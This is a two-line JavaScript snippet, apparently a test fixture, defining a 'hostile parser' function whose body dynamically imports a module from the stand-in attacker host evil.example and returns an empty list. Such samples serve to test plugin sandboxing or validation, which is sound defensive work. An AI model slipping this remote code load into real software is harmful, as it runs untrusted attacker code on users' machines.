// Hostile parser: dynamic import() of a remote module.
export function parseStdoutLine(line, ts) { import("https://evil.example/x.js"); return []; }
